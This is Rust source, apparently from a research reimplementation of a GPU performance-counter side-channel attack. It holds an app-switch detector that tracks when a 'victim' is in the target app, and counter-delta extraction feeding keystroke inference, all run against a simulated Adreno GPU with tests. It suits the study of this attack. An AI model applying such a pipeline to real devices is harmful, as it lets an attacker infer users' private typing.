    /// stream via [`SwitchDetector::finish`]).
    pending_return: Option<SimInstant>,
    /// `in_target` after the previous [`SwitchDetector::feed`] call; a
    /// false→true edge starts the pending-return tracking.
    was_inside: bool,
}

/// Verdict of one [`SwitchDetector::feed`] call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SwitchOutcome {
    /// A typing-sized change inside the target app — downstream inference
    /// should consume it. When the change is the first quiet one after a
    /// completed return burst, `returned_at` carries the burst's last-frame
    /// timestamp (the blink-grid re-anchor point, §5.3).
    Typing {
        /// Re-anchor time of the return burst this change resolved, if any.
        returned_at: Option<SimInstant>,
    },
    /// Outside the target app, or part of a switch animation burst — dropped
    /// from the inference stream.
    Filtered,
}

impl SwitchDetector {
    /// Creates a detector; the victim starts in the target app.
    pub fn new(config: SwitchConfig) -> Self {
        SwitchDetector {
            config,
            in_target: true,
            burst_len: 0,
            last_big_at: None,
            toggled_this_burst: false,
            switches_detected: 0,
            pending_return: None,
            was_inside: true,
        }
    }

    /// Whether the victim is currently believed to be in the target app.
    pub fn in_target(&self) -> bool {
        self.in_target
    }

    /// Number of switch bursts detected so far.
    pub fn switches_detected(&self) -> usize {
        self.switches_detected
    }

    /// Observes one change; returns `in_target` after the update.
    pub fn observe(&mut self, delta: &Delta) -> bool {
        let big = delta.magnitude() >= self.config.magnitude_threshold;
        if big {
            let continues = self
                .last_big_at
                .is_some_and(|t| delta.at.saturating_since(t) <= self.config.burst_gap);
            self.burst_len = if continues { self.burst_len + 1 } else { 1 };
            self.last_big_at = Some(delta.at);
            if !continues {
                self.toggled_this_burst = false;
            }
            if self.burst_len >= self.config.min_burst && !self.toggled_this_burst {
                self.in_target = !self.in_target;
                self.toggled_this_burst = true;
                self.switches_detected += 1;
            }
        } else if self
            .last_big_at
            .is_none_or(|t| delta.at.saturating_since(t) > self.config.burst_gap)
        {
            self.burst_len = 0;
            self.toggled_this_burst = false;
        }
        self.in_target
    }

    /// Observes one change and classifies it for the inference stream:
    /// [`SwitchDetector::observe`] plus the return-burst bookkeeping the
    /// service used to inline. A burst frame that re-enters the target app
    /// starts a pending return; further burst frames push its timestamp
    /// forward ("burst still running"); the first quiet in-target change
    /// resolves it as `returned_at`.
    pub fn feed(&mut self, delta: &Delta) -> SwitchOutcome {
        let burst = delta.magnitude() >= self.config.magnitude_threshold;
        let was_inside = self.was_inside;
        let inside = self.observe(delta);
        self.was_inside = inside;
        let mut returned_at = None;
        if inside && !was_inside {
            self.pending_return = Some(delta.at);
        } else if inside && burst && self.pending_return.is_some() {
            self.pending_return = Some(delta.at); // burst still running
        } else if inside && !burst {
            returned_at = self.pending_return.take();
        }
        if inside && !burst {
            SwitchOutcome::Typing { returned_at }
        } else {
            SwitchOutcome::Filtered
        }
    }

    /// Flushes a return burst still running at end of stream, yielding its
    /// re-anchor time.
    pub fn finish(&mut self) -> Option<SimInstant> {
        self.pending_return.take()
    }
}

/// Events out of the app-switch filter stage.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SwitchEvent {
    /// The victim returned to the target app; the cursor-blink grid
    /// re-anchors at this instant. Emitted *before* the typing change that
    /// resolved the return.
    Return(SimInstant),
    /// A typing-sized change inside the target app.
    Typing(Delta),
}

/// [`Stage`] adapter over [`SwitchDetector::feed`] (§5.2): drops switch
/// bursts and everything outside the target app, forwards typing-sized
/// changes, and surfaces completed return bursts as [`SwitchEvent::Return`]
/// markers.
#[derive(Debug)]
pub struct SwitchStage {
    detector: SwitchDetector,
}

impl SwitchStage {
    /// A stage over a fresh detector.
    pub fn new(config: SwitchConfig) -> Self {
        SwitchStage { detector: SwitchDetector::new(config) }
    }

    /// The underlying detector (for `switches_detected`).
    pub fn detector(&self) -> &SwitchDetector {
        &self.detector
    }
}

impl Stage for SwitchStage {
    type In = Delta;
    type Out = SwitchEvent;

    fn push(&mut self, input: Delta, out: &mut Vec<SwitchEvent>) {
        match self.detector.feed(&input) {
            SwitchOutcome::Typing { returned_at } => {
                if let Some(t) = returned_at {
                    out.push(SwitchEvent::Return(t));
                }
                out.push(SwitchEvent::Typing(input));
            }
            SwitchOutcome::Filtered => {}
        }
    }

    fn finish(&mut self, out: &mut Vec<SwitchEvent>) {
        if let Some(t) = self.detector.finish() {
            out.push(SwitchEvent::Return(t));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::{CounterSet, TrackedCounter};

    fn delta(ms: u64, magnitude: u64) -> Delta {
        let mut values = CounterSet::ZERO;
        values[TrackedCounter::LrzVisiblePixelAfterLrz] = magnitude;
        Delta { at: SimInstant::from_millis(ms), values }
    }

    fn detector() -> SwitchDetector {
        SwitchDetector::new(SwitchConfig::with_threshold(1_000_000))
    }

    #[test]
    fn typing_changes_never_toggle() {
        let mut det = detector();
        for ms in (0..2_000).step_by(250) {
            assert!(det.observe(&delta(ms, 200_000)), "key-sized changes keep us in target");
        }
        assert_eq!(det.switches_detected(), 0);
    }

    #[test]
    fn burst_toggles_once_and_return_burst_toggles_back() {
        let mut det = detector();
        // Away burst: 6 big frames 16 ms apart.
        for i in 0..6u64 {
            det.observe(&delta(1_000 + i * 16, 2_000_000));
        }
        assert!(!det.in_target(), "burst must flip to out-of-target");
        assert_eq!(det.switches_detected(), 1);
        // Quiet usage of the other app.
        det.observe(&delta(2_000, 400_000));
        assert!(!det.in_target());
        // Return burst.
        for i in 0..6u64 {
            det.observe(&delta(3_000 + i * 16, 2_000_000));
        }
        assert!(det.in_target(), "second burst returns to target");
        assert_eq!(det.switches_detected(), 2);
    }

    #[test]
    fn slow_big_changes_are_not_a_burst() {
        let mut det = detector();
        // Big changes 200 ms apart (e.g. shade opening then app redraw)
        // never reach burst length.
        for i in 0..8u64 {
            det.observe(&delta(1_000 + i * 200, 2_000_000));
        }
        assert!(det.in_target());
        assert_eq!(det.switches_detected(), 0);
    }

    #[test]
    fn two_frame_flicker_is_ignored() {
        let mut det = detector();
        det.observe(&delta(100, 2_000_000));
        det.observe(&delta(116, 2_000_000));
        assert!(det.in_target(), "min_burst is 3");
    }

    #[test]
    fn one_long_burst_toggles_only_once() {
        let mut det = detector();
        for i in 0..20u64 {
            det.observe(&delta(1_000 + i * 16, 2_000_000));
        }
        assert!(!det.in_target());
        assert_eq!(det.switches_detected(), 1);
    }

    /// Drives an away burst followed by `return_frames` big return frames,
    /// returning the detector mid-scenario.
    fn after_return_burst(return_frames: u64) -> SwitchDetector {
        let mut det = detector();
        for i in 0..4u64 {
            assert_eq!(det.feed(&delta(1_000 + i * 16, 2_000_000)), SwitchOutcome::Filtered);
        }
        assert!(!det.in_target());
        for i in 0..return_frames {
            assert_eq!(
                det.feed(&delta(2_000 + i * 16, 2_000_000)),
                SwitchOutcome::Filtered,
                "burst frames never reach the inference stream"
            );
        }
        assert!(det.in_target());
        det
    }

    #[test]
    fn return_anchor_tracks_a_still_running_burst() {
        // The burst toggles back at its 3rd frame but keeps running for
        // three more; the re-anchor time must be the *last* frame (2064 ms),
        // not the toggle frame (2032 ms).
        let mut det = after_return_burst(5);
        assert_eq!(
            det.feed(&delta(2_400, 200_000)),
            SwitchOutcome::Typing { returned_at: Some(SimInstant::from_millis(2_064)) }
        );
        // The return is reported exactly once.
        assert_eq!(det.feed(&delta(2_700, 200_000)), SwitchOutcome::Typing { returned_at: None });
        assert_eq!(det.finish(), None);
    }

    #[test]
    fn trailing_return_burst_is_flushed_at_finish() {
        // The stream ends while the return burst is the last thing seen: no
        // quiet change ever resolves it, so `finish` must yield the anchor.
        let mut det = after_return_burst(4);
        assert_eq!(det.finish(), Some(SimInstant::from_millis(2_048)));
        assert_eq!(det.finish(), None, "finish drains the pending return");
    }

    #[test]
    fn switch_stage_orders_return_before_typing() {
        let mut stage = SwitchStage::new(SwitchConfig::with_threshold(1_000_000));
        let mut out = Vec::new();
        for i in 0..4u64 {
            stage.push(delta(1_000 + i * 16, 2_000_000), &mut out);
        }
        for i in 0..4u64 {
            stage.push(delta(2_000 + i * 16, 2_000_000), &mut out);
        }
        assert!(out.is_empty(), "bursts emit nothing");
        stage.push(delta(2_400, 200_000), &mut out);
        assert_eq!(
            out,
            vec![
                SwitchEvent::Return(SimInstant::from_millis(2_048)),
                SwitchEvent::Typing(delta(2_400, 200_000)),
            ]
        );
        assert_eq!(stage.detector().switches_detected(), 2);
    }
}
