//! Counter traces and change extraction.
//!
//! The attack periodically reads the eleven tracked counters and works on
//! the *changes* between consecutive reads (Fig 3, Fig 11). A [`Trace`] is
//! the raw sample series; [`extract_deltas`] turns it into the nonzero
//! change events all downstream inference consumes.
//!
//! # Data layout
//!
//! `Trace` stores samples in columnar (structure-of-arrays) form: one
//! contiguous `Vec<u64>` per tracked counter plus a timestamp array, rather
//! than a `Vec` of `(SimInstant, CounterSet)` pairs. Delta extraction and
//! windowing then walk contiguous cache lines instead of striding over
//! 96-byte records. The AoS-style view is still available per index via
//! [`Trace::sample`] and [`Trace::iter`], which assemble a [`Sample`] on
//! the fly.

use adreno_sim::counters::{CounterSet, TrackedCounter, NUM_TRACKED};
use adreno_sim::time::SimInstant;

use crate::stage::Stage;

/// One raw counter sample.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sample {
    /// When the `ioctl` read returned.
    pub at: SimInstant,
    /// Cumulative counter values observed.
    pub values: CounterSet,
}

/// A time-ordered series of raw counter samples in columnar storage.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Trace {
    ats: Vec<SimInstant>,
    cols: [Vec<u64>; NUM_TRACKED],
}

impl Trace {
    /// Creates an empty trace.
    pub fn new() -> Self {
        Trace::default()
    }

    /// Creates an empty trace with room for `samples` reads in every column,
    /// so a streaming session of known length never re-grows mid-loop.
    pub fn with_capacity(samples: usize) -> Self {
        Trace {
            ats: Vec::with_capacity(samples),
            cols: std::array::from_fn(|_| Vec::with_capacity(samples)),
        }
    }

    /// Reserves room for at least `additional` more samples in every column.
    pub fn reserve(&mut self, additional: usize) {
        self.ats.reserve(additional);
        for col in &mut self.cols {
            col.reserve(additional);
        }
    }

    /// Appends a sample.
    ///
    /// # Panics
    ///
    /// Panics if `at` is earlier than the previous sample (reads are issued
    /// in time order).
    pub fn push(&mut self, at: SimInstant, values: CounterSet) {
        if let Some(&last) = self.ats.last() {
            assert!(at >= last, "samples must be time-ordered");
        }
        self.ats.push(at);
        for (col, &v) in self.cols.iter_mut().zip(values.as_array()) {
            col.push(v);
        }
    }

    /// The timestamp of sample `i`.
    pub fn at(&self, i: usize) -> SimInstant {
        self.ats[i]
    }

    /// Assembles the AoS view of sample `i` from the columns.
    pub fn sample(&self, i: usize) -> Sample {
        let mut values = [0u64; NUM_TRACKED];
        for (v, col) in values.iter_mut().zip(&self.cols) {
            *v = col[i];
        }
        Sample { at: self.ats[i], values: CounterSet::from_array(values) }
    }

    /// Iterates the samples in order, assembling each [`Sample`] on the fly.
    pub fn iter(&self) -> impl Iterator<Item = Sample> + '_ {
        (0..self.len()).map(move |i| self.sample(i))
    }

    /// The read timestamps in order.
    pub fn timestamps(&self) -> &[SimInstant] {
        &self.ats
    }

    /// The contiguous value column of one tracked counter.
    pub fn column(&self, c: TrackedCounter) -> &[u64] {
        &self.cols[c.index()]
    }

    /// All value columns in [`adreno_sim::counters::ALL_TRACKED`] order.
    pub fn columns(&self) -> &[Vec<u64>; NUM_TRACKED] {
        &self.cols
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.ats.len()
    }

    /// Whether the trace is empty.
    pub fn is_empty(&self) -> bool {
        self.ats.is_empty()
    }
}

impl Extend<Sample> for Trace {
    fn extend<T: IntoIterator<Item = Sample>>(&mut self, iter: T) {
        for s in iter {
            self.push(s.at, s.values);
        }
    }
}

impl FromIterator<Sample> for Trace {
    fn from_iter<T: IntoIterator<Item = Sample>>(iter: T) -> Self {
        let mut t = Trace::new();
        t.extend(iter);
        t
    }
}

/// One observed counter *change*: the difference between two consecutive
/// reads, attributed to the time of the later read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Delta {
    /// Read time at which the change was observed.
    pub at: SimInstant,
    /// The change in each tracked counter.
    pub values: CounterSet,
}

impl Delta {
    /// Sum of the change over all counters — a scalar magnitude used by the
    /// app-switch burst detector.
    pub fn magnitude(&self) -> u64 {
        self.values.total()
    }
}

/// Extracts the nonzero changes from a trace: `delta_i = s_i - s_{i-1}`,
/// skipping reads where nothing moved ("the PC values remain unchanged if
/// the screen display does not change", §3.4).
///
/// Counters are cumulative, so they can only ever grow — unless the GPU
/// slumbered between the two reads and the registers restarted from zero.
/// See [`extract_deltas_with_resets`] for how such windows are handled.
pub fn extract_deltas(trace: &Trace) -> Vec<Delta> {
    extract_deltas_with_resets(trace).0
}

/// [`extract_deltas`], also reporting how many counter resets were detected.
///
/// A window where any tracked counter moved *backwards* cannot be a real
/// display change: cumulative registers never decrease. It means the
/// hardware lost its state (GPU slumber / power collapse), so the window's
/// difference is meaningless. Instead of clamping it to zero per counter —
/// which silently fabricates a bogus partial delta — the window is dropped
/// entirely and extraction re-anchors at the later sample, resuming normal
/// differencing from there. The activity that fell inside the reset window
/// is lost (degraded coverage), but nothing invented is emitted.
///
/// The batch form works directly on the columnar storage: each window reads
/// two adjacent elements per column, never materializing a [`Sample`].
/// [`DeltaStage`] remains the streaming form; both emit identical deltas and
/// identical telemetry.
pub fn extract_deltas_with_resets(trace: &Trace) -> (Vec<Delta>, usize) {
    let n = trace.len();
    let mut out = Vec::new();
    let mut resets = 0usize;
    'windows: for i in 1..n {
        let mut values = [0u64; NUM_TRACKED];
        for (v, col) in values.iter_mut().zip(trace.columns()) {
            let (prev, cur) = (col[i - 1], col[i]);
            if cur < prev {
                resets += 1;
                continue 'windows;
            }
            *v = cur - prev;
        }
        if values.iter().any(|&v| v != 0) {
            out.push(Delta { at: trace.at(i), values: CounterSet::from_array(values) });
        }
    }
    spansight::count("core.trace.deltas", out.len() as u64);
    if resets > 0 {
        spansight::count("core.trace.resets", resets as u64);
    }
    (out, resets)
}

/// Incremental delta extraction: the [`Stage`] form of
/// [`extract_deltas_with_resets`], consuming one [`Sample`] at a time and
/// emitting the nonzero [`Delta`]s. Holds only the previous sample, so a
/// live session never materializes the raw trace.
///
/// Counter-reset windows (any counter moving backwards — GPU slumber) emit
/// nothing; extraction re-anchors at the later sample. The reset count is
/// available via [`DeltaStage::resets`] and, together with the emitted-delta
/// count, is published as telemetry at [`Stage::finish`].
#[derive(Debug, Default)]
pub struct DeltaStage {
    prev: Option<Sample>,
    emitted: usize,
    resets: usize,
}

impl DeltaStage {
    /// A fresh extractor with no anchor sample yet.
    pub fn new() -> Self {
        DeltaStage::default()
    }

    /// Counter resets (backward jumps) re-anchored across so far.
    pub fn resets(&self) -> usize {
        self.resets
    }
}

impl Stage for DeltaStage {
    type In = Sample;
    type Out = Delta;

    fn push(&mut self, input: Sample, out: &mut Vec<Delta>) {
        if let Some(prev) = self.prev {
            match input.values.checked_sub(&prev.values) {
                Some(d) => {
                    if !d.is_zero() {
                        out.push(Delta { at: input.at, values: d });
                        self.emitted += 1;
                    }
                }
                None => self.resets += 1,
            }
        }
        self.prev = Some(input);
    }

    fn finish(&mut self, _out: &mut Vec<Delta>) {
        spansight::count("core.trace.deltas", self.emitted as u64);
        if self.resets > 0 {
            spansight::count("core.trace.resets", self.resets as u64);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::TrackedCounter;

    fn set(v: u64) -> CounterSet {
        let mut c = CounterSet::ZERO;
        c[TrackedCounter::Ras8x4Tiles] = v;
        c
    }

    #[test]
    fn deltas_skip_idle_windows() {
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(0), set(10));
        t.push(SimInstant::from_millis(8), set(10)); // idle
        t.push(SimInstant::from_millis(16), set(25));
        t.push(SimInstant::from_millis(24), set(25)); // idle
        let d = extract_deltas(&t);
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].at, SimInstant::from_millis(16));
        assert_eq!(d[0].values[TrackedCounter::Ras8x4Tiles], 15);
        assert_eq!(d[0].magnitude(), 15);
    }

    #[test]
    fn empty_and_single_sample_traces_have_no_deltas() {
        let mut t = Trace::new();
        assert!(extract_deltas(&t).is_empty());
        t.push(SimInstant::ZERO, set(5));
        assert!(extract_deltas(&t).is_empty());
        assert_eq!(t.len(), 1);
        assert!(!t.is_empty());
    }

    #[test]
    #[should_panic(expected = "time-ordered")]
    fn out_of_order_push_panics() {
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(10), set(1));
        t.push(SimInstant::from_millis(5), set(2));
    }

    #[test]
    fn counter_reset_reanchors_instead_of_fabricating_zero() {
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(0), set(100));
        t.push(SimInstant::from_millis(8), set(130));
        // GPU slumber: registers restart near zero...
        t.push(SimInstant::from_millis(16), set(5));
        // ...and counting resumes from the new anchor.
        t.push(SimInstant::from_millis(24), set(25));
        let (d, resets) = extract_deltas_with_resets(&t);
        assert_eq!(resets, 1);
        assert_eq!(d.len(), 2, "the reset window itself must emit nothing");
        assert_eq!(d[0].at, SimInstant::from_millis(8));
        assert_eq!(d[0].values[TrackedCounter::Ras8x4Tiles], 30);
        assert_eq!(d[1].at, SimInstant::from_millis(24));
        assert_eq!(
            d[1].values[TrackedCounter::Ras8x4Tiles],
            20,
            "re-anchored at the post-reset read"
        );
    }

    #[test]
    fn partial_backward_jump_still_counts_as_reset() {
        // One counter moves forward while another moves backward: cumulative
        // registers cannot do that, so the whole window is a reset.
        let mut a = CounterSet::ZERO;
        a[TrackedCounter::Ras8x4Tiles] = 50;
        a[TrackedCounter::VpcPcPrimitives] = 10;
        let mut b = CounterSet::ZERO;
        b[TrackedCounter::Ras8x4Tiles] = 20; // backwards
        b[TrackedCounter::VpcPcPrimitives] = 60; // forwards
        let mut t = Trace::new();
        t.push(SimInstant::from_millis(0), a);
        t.push(SimInstant::from_millis(8), b);
        let (d, resets) = extract_deltas_with_resets(&t);
        assert!(d.is_empty());
        assert_eq!(resets, 1);
    }

    #[test]
    fn monotone_traces_report_zero_resets() {
        let t: Trace = (0..6)
            .map(|i| Sample { at: SimInstant::from_millis(i * 8), values: set(i * 3) })
            .collect();
        let (d, resets) = extract_deltas_with_resets(&t);
        assert_eq!(resets, 0);
        assert_eq!(d, extract_deltas(&t));
    }

    #[test]
    fn collects_from_iterator() {
        let t: Trace = (0..5)
            .map(|i| Sample { at: SimInstant::from_millis(i * 8), values: set(i * 3) })
            .collect();
        assert_eq!(t.len(), 5);
        assert_eq!(extract_deltas(&t).len(), 4);
    }

    #[test]
    fn soa_views_round_trip_pushed_samples() {
        let samples: Vec<Sample> = (0..4)
            .map(|i| Sample { at: SimInstant::from_millis(i * 8), values: set(i * 7 + 1) })
            .collect();
        let t: Trace = samples.iter().copied().collect();
        assert_eq!(t.timestamps().len(), 4);
        for (i, s) in samples.iter().enumerate() {
            assert_eq!(t.at(i), s.at);
            assert_eq!(t.sample(i), *s);
            assert_eq!(t.column(TrackedCounter::Ras8x4Tiles)[i], (i as u64) * 7 + 1);
        }
        let collected: Vec<Sample> = t.iter().collect();
        assert_eq!(collected, samples);
    }

    #[test]
    fn with_capacity_reserves_every_column() {
        let t = Trace::with_capacity(64);
        assert!(t.ats.capacity() >= 64);
        for col in t.columns() {
            assert!(col.capacity() >= 64);
        }
        assert!(t.is_empty());
    }

    #[test]
    fn batch_extraction_matches_streaming_stage() {
        // Mixed workload: idle windows, activity, and a reset.
        let vals = [100u64, 100, 130, 5, 25, 25, 60];
        let mut t = Trace::new();
        for (i, v) in vals.into_iter().enumerate() {
            t.push(SimInstant::from_millis(i as u64 * 8), set(v));
        }
        let (batch, batch_resets) = extract_deltas_with_resets(&t);
        let mut stage = DeltaStage::new();
        let mut streamed = Vec::new();
        for s in t.iter() {
            stage.push(s, &mut streamed);
        }
        stage.finish(&mut streamed);
        assert_eq!(batch, streamed);
        assert_eq!(batch_resets, stage.resets());
    }
}
