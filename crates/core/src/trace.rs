//! Counter traces and change extraction.
//!
//! The attack periodically reads the eleven tracked counters and works on
//! the *changes* between consecutive reads (Fig 3, Fig 11). A [`Trace`] is
//! the raw sample series; [`extract_deltas`] turns it into the nonzero
//! change events all downstream inference consumes.
//!
//! # Data layout
//!
//! `Trace` stores samples in columnar (structure-of-arrays) form: one
//! contiguous `Vec<u64>` per tracked counter plus a timestamp array, rather
//! than a `Vec` of `(SimInstant, CounterSet)` pairs. Delta extraction and
//! windowing then walk contiguous cache lines instead of striding over
//! 96-byte records. The AoS-style view is still available per index via
//! [`Trace::sample`] and [`Trace::iter`], which assemble a [`Sample`] on
//! the fly.

use adreno_sim::counters::{CounterSet, TrackedCounter, NUM_TRACKED};
use adreno_sim::time::SimInstant;

use crate::stage::Stage;

/// One raw counter sample.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sample {
    /// When the `ioctl` read returned.
    pub at: SimInstant,
    /// Cumulative counter values observed.
    pub values: CounterSet,
}

/// A time-ordered series of raw counter samples in columnar storage.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Trace {
    ats: Vec<SimInstant>,
    cols: [Vec<u64>; NUM_TRACKED],
}

impl Trace {
    /// Creates an empty trace.
    pub fn new() -> Self {
        Trace::default()
    }

    /// Creates an empty trace with room for `samples` reads in every column,
    /// so a streaming session of known length never re-grows mid-loop.
    pub fn with_capacity(samples: usize) -> Self {
        Trace {
            ats: Vec::with_capacity(samples),
            cols: std::array::from_fn(|_| Vec::with_capacity(samples)),
        }
    }

    /// Reserves room for at least `additional` more samples in every column.
    pub fn reserve(&mut self, additional: usize) {
        self.ats.reserve(additional);
        for col in &mut self.cols {
            col.reserve(additional);
        }
    }

    /// Appends a sample.
    ///
    /// # Panics
    ///
    /// Panics if `at` is earlier than the previous sample (reads are issued
    /// in time order).
    pub fn push(&mut self, at: SimInstant, values: CounterSet) {
        if let Some(&last) = self.ats.last() {
            assert!(at >= last, "samples must be time-ordered");
        }
        self.ats.push(at);
        for (col, &v) in self.cols.iter_mut().zip(values.as_array()) {
            col.push(v);
        }
    }

    /// The timestamp of sample `i`.
    pub fn at(&self, i: usize) -> SimInstant {
        self.ats[i]
    }

    /// Assembles the AoS view of sample `i` from the columns.
    pub fn sample(&self, i: usize) -> Sample {
        let mut values = [0u64; NUM_TRACKED];
        for (v, col) in values.iter_mut().zip(&self.cols) {
            *v = col[i];
        }
        Sample { at: self.ats[i], values: CounterSet::from_array(values) }
    }

    /// Iterates the samples in order, assembling each [`Sample`] on the fly.
    pub fn iter(&self) -> impl Iterator<Item = Sample> + '_ {
        (0..self.len()).map(move |i| self.sample(i))
    }

    /// The read timestamps in order.
    pub fn timestamps(&self) -> &[SimInstant] {
        &self.ats
    }

    /// The contiguous value column of one tracked counter.
    pub fn column(&self, c: TrackedCounter) -> &[u64] {
        &self.cols[c.index()]
    }

    /// All value columns in [`adreno_sim::counters::ALL_TRACKED`] order.
    pub fn columns(&self) -> &[Vec<u64>; NUM_TRACKED] {
        &self.cols
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.ats.len()
    }

    /// Whether the trace is empty.
    pub fn is_empty(&self) -> bool {
        self.ats.is_empty()
    }
}

impl Extend<Sample> for Trace {
    fn extend<T: IntoIterator<Item = Sample>>(&mut self, iter: T) {
        for s in iter {
            self.push(s.at, s.values);
        }
    }
}

impl FromIterator<Sample> for Trace {
    fn from_iter<T: IntoIterator<Item = Sample>>(iter: T) -> Self {
        let mut t = Trace::new();
        t.extend(iter);
        t
    }
}

/// One observed counter *change*: the difference between two consecutive
/// reads, attributed to the time of the later read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Delta {
    /// Read time at which the change was observed.
    pub at: SimInstant,
    /// The change in each tracked counter.
    pub values: CounterSet,
}

impl Delta {
    /// Sum of the change over all counters — a scalar magnitude used by the
    /// app-switch burst detector.
    pub fn magnitude(&self) -> u64 {
        self.values.total()
    }
}

/// Extracts the nonzero changes from a trace: `delta_i = s_i - s_{i-1}`,
/// skipping reads where nothing moved ("the PC values remain unchanged if
/// the screen display does not change", §3.4).
///
/// Counters are cumulative, so they can only ever grow — unless the GPU
/// slumbered between the two reads and the registers restarted from zero.
/// See [`extract_deltas_with_resets`] for how such windows are handled.
pub fn extract_deltas(trace: &Trace) -> Vec<Delta> {
    extract_deltas_with_resets(trace).0
}

/// [`extract_deltas`], also reporting how many counter resets were detected.
///
/// A window where any tracked counter moved *backwards* cannot be a real
/// display change: cumulative registers never decrease. It means the
/// hardware lost its state (GPU slumber / power collapse), so the window's
/// difference is meaningless. Instead of clamping it to zero per counter —
/// which silently fabricates a bogus partial delta — the window is dropped
/// entirely and extraction re-anchors at the later sample, resuming normal
/// differencing from there. The activity that fell inside the reset window
/// is lost (degraded coverage), but nothing invented is emitted.
///
/// Allocates its change-mask scratch per call; streaming callers that
/// extract repeatedly should hold an [`ExtractScratch`] and use
/// [`extract_deltas_with_resets_scratch`], which never allocates in steady
/// state.
pub fn extract_deltas_with_resets(trace: &Trace) -> (Vec<Delta>, usize) {
    extract_deltas_with_resets_scratch(trace, &mut ExtractScratch::default())
}

/// Reusable change-mask buffer for [`extract_deltas_with_resets_scratch`].
/// Grows to the largest trace seen, then stays — repeat extractions never
/// allocate (and never re-zero: the sweep's first column quad overwrites
/// every slot).
#[derive(Debug, Default)]
pub struct ExtractScratch {
    ch: Vec<u64>,
}

/// Windows per probe stride when estimating how busy a trace is.
const PROBE_WINDOWS: usize = 64;

/// L1-sized span of the columnar change sweep: 1024 `u64` masks (8 kB) stay
/// cache-resident while all eleven columns fold into them.
const SWEEP_CHUNK: usize = 1_024;

/// [`extract_deltas_with_resets`] with a caller-held scratch buffer.
///
/// The extraction is *regime-adaptive*. A strided probe of
/// `PROBE_WINDOWS` windows estimates the busy fraction first:
///
/// * **Busy trace** (> ¼ of probes changed): one row-major pass — for each
///   window, difference all eleven columns, drop backward (reset) windows,
///   emit nonzero deltas. Dense traces are bound by the per-window
///   difference-and-emit work itself, and the single pass does exactly
///   that and nothing else.
/// * **Idle-dominated trace** (the paper's regime: 5–8 ms sampling against
///   ~250 ms keystroke spacing, and "the PC values remain unchanged if the
///   screen display does not change", §3.4): a columnar xor-accumulate
///   sweep ORs `prev ^ cur` of all columns into one `u64` change mask per
///   window — contiguous, branch-free, four columns folded per pass over
///   an L1-resident `SWEEP_CHUNK` block — and only the windows with a
///   nonzero mask are then assembled row-major. Backward detection happens
///   during assembly: a backward window has `cur != prev` in the offending
///   column, so it necessarily carries a nonzero change mask and cannot be
///   missed by the xor sweep.
///
/// Both paths emit identical deltas, resets and telemetry as each other
/// and as the streaming [`DeltaStage`].
pub fn extract_deltas_with_resets_scratch(
    trace: &Trace,
    scratch: &mut ExtractScratch,
) -> (Vec<Delta>, usize) {
    let n = trace.len();
    let mut out = Vec::new();
    let mut resets = 0usize;
    if n >= 2 {
        let w = n - 1;
        let cols = trace.columns();
        let ats = trace.timestamps();
        let probes = PROBE_WINDOWS.min(w);
        let mut busy = 0usize;
        for k in 0..probes {
            let i = 1 + k * w / probes;
            let mut x = 0u64;
            for col in cols {
                x |= col[i] ^ col[i - 1];
            }
            busy += usize::from(x != 0);
        }
        if busy * 4 > probes {
            emit_windows_rowwise(cols, ats, 1..n, &mut out, &mut resets);
        } else {
            sweep_change_masks(cols, w, &mut scratch.ch);
            let ch = &scratch.ch[..w];
            // Idle windows skip four at a time: one OR of their masks.
            let mut k = 0usize;
            while k + 4 <= w {
                if ch[k] | ch[k + 1] | ch[k + 2] | ch[k + 3] == 0 {
                    k += 4;
                    continue;
                }
                for (kk, &mask) in ch.iter().enumerate().skip(k).take(4) {
                    if mask != 0 {
                        emit_windows_rowwise(cols, ats, kk + 1..kk + 2, &mut out, &mut resets);
                    }
                }
                k += 4;
            }
            while k < w {
                if ch[k] != 0 {
                    emit_windows_rowwise(cols, ats, k + 1..k + 2, &mut out, &mut resets);
                }
                k += 1;
            }
        }
    }
    spansight::count("core.trace.deltas", out.len() as u64);
    if resets > 0 {
        spansight::count("core.trace.resets", resets as u64);
    }
    (out, resets)
}

/// The row-major difference-and-emit pass shared by both extraction
/// regimes: for each window ending at sample `i` in `range`, difference
/// all columns, count the window as a reset if any column moved backwards,
/// otherwise emit a [`Delta`] if anything changed.
#[inline]
fn emit_windows_rowwise(
    cols: &[Vec<u64>; NUM_TRACKED],
    ats: &[SimInstant],
    range: std::ops::Range<usize>,
    out: &mut Vec<Delta>,
    resets: &mut usize,
) {
    'windows: for i in range {
        let mut values = [0u64; NUM_TRACKED];
        for (v, col) in values.iter_mut().zip(cols) {
            let (prev, cur) = (col[i - 1], col[i]);
            if cur < prev {
                *resets += 1;
                continue 'windows;
            }
            *v = cur - prev;
        }
        if values.iter().any(|&v| v != 0) {
            out.push(Delta { at: ats[i], values: CounterSet::from_array(values) });
        }
    }
}

/// Columnar change sweep: `ch[k] = OR over columns of (col[k] ^ col[k+1])`
/// for all `w` windows. Folds four columns per pass over an L1-resident
/// `SWEEP_CHUNK` block; the first quad *writes* (no `ch` pre-zeroing
/// needed — `NUM_TRACKED` ≥ 4 guarantees the quad exists) and later
/// passes OR into it.
fn sweep_change_masks(cols: &[Vec<u64>; NUM_TRACKED], w: usize, ch: &mut Vec<u64>) {
    const { assert!(NUM_TRACKED >= 4, "first column quad must cover every mask") };
    ch.resize(w, 0);
    let mut s = 0usize;
    while s < w {
        let e = (s + SWEEP_CHUNK).min(w);
        let cb = &mut ch[s..e];
        let mut quads = cols.chunks_exact(4);
        let mut first = true;
        for quad in &mut quads {
            let (pa, ca) = (&quad[0][s..e], &quad[0][s + 1..e + 1]);
            let (pb, cb2) = (&quad[1][s..e], &quad[1][s + 1..e + 1]);
